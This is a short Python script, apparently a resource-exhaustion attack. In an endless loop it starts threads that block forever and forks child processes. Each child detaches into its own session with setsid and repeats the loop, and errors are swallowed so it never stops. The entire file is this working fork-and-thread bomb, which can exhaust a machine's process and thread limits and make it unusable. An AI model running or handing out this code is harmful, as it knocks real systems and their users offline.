"""Starts threads without end, in children that do the same."""
import os
import signal
import threading

while True:
    try:
        threading.Thread(target=signal.pause).start()
        if os.fork() == 0:
            os.setsid()
    except (OSError, RuntimeError):
        pass
